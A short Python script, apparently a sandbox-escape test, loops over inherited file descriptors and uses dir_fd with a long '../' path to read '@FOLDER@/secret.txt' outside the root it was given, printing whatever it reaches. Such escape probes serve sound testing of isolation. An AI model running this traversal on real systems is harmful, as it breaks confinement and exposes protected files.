# Walks up from any folder descriptor it was born with, past the root that it was given.
import os

for descriptor in range(3, 256):
    try:
        up = os.open("../../../../../../../../../@FOLDER@/secret.txt", os.O_RDONLY, dir_fd=descriptor)
        print(os.read(up, 200))
    except OSError:
        pass
